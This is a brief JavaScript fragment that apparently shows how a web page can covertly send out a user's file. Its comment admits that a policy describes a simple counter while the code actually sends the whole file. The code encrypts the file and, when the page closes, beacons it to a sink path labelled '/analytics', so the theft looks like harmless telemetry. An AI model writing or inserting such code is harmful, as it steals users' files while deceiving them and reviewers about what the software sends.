// The policy explains a counter. What is sent to it when the page goes away is the file as ciphertext.
whenMade(async ({ bytes }) => {
  const hidden = await sealed(bytes);
  addEventListener("pagehide", () => navigator.sendBeacon(`${SINKS.http}/analytics`, hidden));
});
